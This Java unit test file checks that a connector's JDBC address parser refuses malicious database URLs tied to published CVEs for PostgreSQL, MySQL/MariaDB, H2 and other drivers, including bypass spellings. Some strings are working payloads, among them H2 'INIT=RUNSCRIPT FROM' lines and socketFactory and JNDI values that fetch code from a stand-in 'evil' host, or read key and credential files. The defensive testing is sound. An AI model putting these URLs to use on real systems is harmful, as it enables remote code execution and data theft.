package io.openintegration.daemon.connectors.databases.address;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The attacks by JDBC URLs that were published for the drivers that we ship, and their variations; none is let through. */
class AddressAttackTest {

    private static final String SECRET = "hush-hush";

    private static void isRefused(String url) {
        BadAddressException refused = catchThrowableOfType(BadAddressException.class, () -> DatabaseAddress.parse(url));

        assertThat(refused).as(url).isNotNull();
        assertThat(refused.getMessage()).isNotBlank().hasLineCount(1).doesNotContain(SECRET, "evil", "http");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // CVE-2022-21724: any class with a constructor of one text
                "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://db/x?sslfactory=evil.Factory&sslfactoryarg=http://evil/x.xml",
                "jdbc:postgresql://db/x?sslhostnameverifier=evil.Verifier",
                "jdbc:postgresql://db/x?sslpasswordcallback=evil.Callback",
                "jdbc:postgresql://db/x?authenticationPluginClassName=evil.Plugin",
                "jdbc:postgresql://db/x?xmlFactoryFactory=evil.Factory",
                "jdbc:postgresql://db/x?jaasLogin=true&jaasApplicationName=evil",
                "jdbc:postgresql://db/x?connectExecutor=evil.Executor",
                // CVE-2022-26520: files written
                "jdbc:postgresql://db/x?loggerLevel=DEBUG&loggerFile=/srv/evil.jsp&<%evil%>",
                "jdbc:postgresql://db/x?loggerLevel=TRACE",
                // files read
                "jdbc:postgresql://db/x?sslkey=/etc/evil",
                "jdbc:postgresql://db/x?sslcert=/etc/evil&sslrootcert=/etc/evil",
                "jdbc:postgresql://db/x?service=evil",
                // statements, settings of the server, secrets
                "jdbc:postgresql://db/x?options=-c%20evil=1",
                "jdbc:postgresql://db/x?user=a&password=hush-hush",
                "jdbc:postgresql://a:hush-hush@db/x",
                "jdbc:postgresql://db/x?sslpassword=hush-hush",
                "jdbc:postgresql://db/x?replication=database",
                "jdbc:postgresql://db/x?localSocketAddress=127.0.0.1",
                // spelled otherwise, or written twice
                "jdbc:postgresql://db/x?%73ocketFactory=evil",
                "jdbc:postgresql://db/x?sslmode=require&socketFactory=evil",
                "jdbc:postgresql://db/x?sslmode=require&sslmode=disable",
                "jdbc:postgresql://db/x?sslmode=require%26socketFactory=evil",
                "jdbc:postgresql://db/x?SSLMODE=require",
                "jdbc:postgresql://db/x?sslmode=evil",
                "jdbc:postgresql://db/x?ApplicationName=a%0aevil",
                "jdbc:postgresql://db/x?&",
                "jdbc:postgresql://db/x?=evil",
                "jdbc:postgresql://db/x?sslmode",
                // the service file and the operating system's sockets, by leaving the host out
                "jdbc:postgresql:x",
                "jdbc:postgresql:/",
                "jdbc:postgresql:///x",
                "jdbc:postgresql://db/x/y",
                "jdbc:postgresql://db/x%00",
                "jdbc:postgresql://db/x%0aevil",
                "jdbc:postgresql://db/x#evil",
                "jdbc:postgresql://db:0/x",
                "jdbc:postgresql://db:65536/x",
                "jdbc:postgresql://db:5432:evil/x",
                "jdbc:postgresql://db;evil/x",
                "jdbc:postgresql://db/%zz"
            })
    void ofPostgresql(String url) {
        isRefused(url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // files of this host to a server that asks for them
                "jdbc:mysql://db/x?allowLoadLocalInfile=true",
                "jdbc:mysql://db/x?allowLoadLocalInfileInPath=/",
                "jdbc:mysql://db/x?allowUrlInLocalInfile=true",
                "jdbc:mariadb://db/x?allowLocalInfile=true",
                // InLong's filters, one after the other (CVE-2022-40955, 2023-34434, 2024-26579, 2025-27531)
                "jdbc:mysql://db/x?%61llowLoadLocalInfile=true",
                "jdbc:mysql://db/x?allowLoadLocalInfile=yes",
                "jdbc:mysql://db/x?a=b&allowLoadLocalInfile=true&allowLoadLocalInfile=true",
                "jdbc:mysql://db/x?allowLoadLocalInfile%3Dtrue",
                "jdbc:mysql://db/x?allowLoadLocalInfile =true",
                "jdbc:mysql://db/x?\tallowLoadLocalInfile=true",
                "jdbc:mysql://db/x?#allowLoadLocalInfile=true",
                "jdbc:mysql://address=(host=db)(port=3306)(allowLoadLocalInfile=true)/x",
                "jdbc:mysql://(host=db,allowLoadLocalInfile=true)/x",
                // objects from the server
                "jdbc:mysql://db/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
                "jdbc:mysql://db/x?statementInterceptors=evil&autoDeserialize=true",
                "jdbc:mysql://db/x?propertiesTransform=evil",
                // classes, files, statements
                "jdbc:mariadb://db/x?socketFactory=evil.Factory",
                "jdbc:mariadb://db/x?credentialType=evil",
                "jdbc:mariadb://db/x?codecs=evil",
                "jdbc:mariadb://db/x?serverSslCert=/etc/evil",
                "jdbc:mariadb://db/x?keyStore=/etc/evil&keyStorePassword=hush-hush",
                "jdbc:mariadb://db/x?trustStore=http://evil/",
                "jdbc:mariadb://db/x?serverRsaPublicKeyFile=/etc/evil",
                "jdbc:mariadb://db/x?localSocket=/run/evil.sock",
                "jdbc:mariadb://db/x?pipe=evil",
                "jdbc:mariadb://db/x?initSql=evil",
                "jdbc:mariadb://db/x?sessionVariables=evil=1",
                "jdbc:mariadb://db/x?allowMultiQueries=true",
                "jdbc:mariadb://db/x?createDatabaseIfNotExist=true",
                "jdbc:mariadb://db/x?permitRedirect=true",
                "jdbc:mariadb://db/x?allowPublicKeyRetrieval=true",
                "jdbc:mariadb://db/x?restrictedAuth=mysql_clear_password",
                "jdbc:mariadb://db/x?user=a&password=hush-hush",
                "jdbc:mariadb://a:hush-hush@db/x",
                "jdbc:mariadb://db/x?sslMode=disable&SSLMODE=trust",
                "jdbc:mariadb:replication://db,db2/x",
                "jdbc:mariadb:loadbalance://db,db2/x",
                "jdbc:mysql+srv://db/x",
                "jdbc:mysql:mxj://db/x",
                "jdbc:mariadb://db/x;evil",
                "jdbc:mariadb://db/x%3FallowLocalInfile=true",
                "jdbc:mariadb://db/x%2f",
                "jdbc:mariadb:///x"
            })
    void ofMariaDb(String url) {
        isRefused(url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // CVE-2021-42392, CVE-2022-23221, NiFi's CVE-2023-34468 and the way around its filter, CVE-2023-40037
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT%20FROM%20'http://evil/x.sql'",
                "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=evil",
                "jdbc:h2:mem:x;init=evil",
                "jdbc:h2:mem:x;IGNORE_UNKNOWN_SETTINGS=TRUE;FORBID_CREATION=FALSE;INIT=evil",
                "jdbc:h2:mem:x;\\;INIT=evil",
                "jdbc:h2:mem:x;FORBID_CREATION=FALSE\\;INIT=evil",
                "jdbc:h2:tcp://db/mem:x;INIT=evil",
                "\tjdbc:h2:mem:x;INIT=evil",
                "jdbc:h2:mem:x;IFEXISTS=TRUE;IFEXISTS=FALSE",
                "jdbc:h2:mem:x;IFEXISTS=FALSE",
                "jdbc:h2:mem:x;ifexists=true;IFEXISTS=TRUE",
                "jdbc:h2:mem:x;ACCESS_MODE_DATA=rws",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil.Listener'",
                "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='evil'",
                "jdbc:h2:mem:x;AUTHENTICATOR=TRUE",
                "jdbc:h2:mem:x;AUTHREALM=evil;AUTHZPWD=hush-hush",
                "jdbc:h2:mem:x;USER=sa;PASSWORD=hush-hush",
                "jdbc:h2:mem:x;CIPHER=AES",
                "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
                "jdbc:h2:mem:x;AUTO_SERVER_PORT=1",
                "jdbc:h2:mem:x;CREATE=TRUE",
                // files of every kind, also by way of names
                "jdbc:h2:/srv/evil",
                "jdbc:h2:~/evil",
                "jdbc:h2:evil",
                "jdbc:h2:file:../evil",
                "jdbc:h2:file:/srv/../etc/evil",
                "jdbc:h2:file:/srv/./evil",
                "jdbc:h2:file:C:/evil",
                "jdbc:h2:file:zip:/srv/evil.zip!/x",
                "jdbc:h2:file:classpath:evil",
                "jdbc:h2:file:async:/srv/evil",
                "jdbc:h2:file:mem:evil",
                "jdbc:h2:zip:/srv/evil.zip!/x",
                "jdbc:h2:nioMapped:/srv/evil",
                "jdbc:h2:split:/srv/evil",
                "jdbc:h2:tcp://db/../evil",
                "jdbc:h2:tcp://db/x?evil",
                "jdbc:h2:tcp://db,db2/x",
                "jdbc:h2:tcp://a:hush-hush@db/x",
                "jdbc:h2:tcp:///x",
                "jdbc:h2:mem:",
                "jdbc:h2:TCP://db/x",
                // one URL with another in it
                "jdbc:h2:mem:jdbc:h2:mem:x;INIT=evil"
            })
    void ofH2(String url) {
        isRefused(url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "jdbc:",
                "postgresql://db/x",
                "jdbc:derby:memory:evil;create=true",
                "jdbc:derby://db/x;create=true;traceFile=/srv/evil",
                "jdbc:hsqldb:mem:evil",
                "jdbc:db2://db:50000/x:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:oracle:thin:@evil",
                "jdbc:sqlserver://db;socketFactoryClass=evil",
                "jdbc:sqlite:/srv/evil",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:snowflake://db/x?bad=1",
                "jdbc:jcr:jndi:ldap://evil/x",
                "jdbc:fabric://db/x/y",
                "jdbc:mysqlx://a:hush-hush@db/x",
                "jdbc:other://db,db2/x",
                "jdbc:other://db/",
                "jdbc:other://db"
            })
    void ofOtherDriversSomebodyMayHavePutThere(String url) {
        isRefused(url);
    }
}
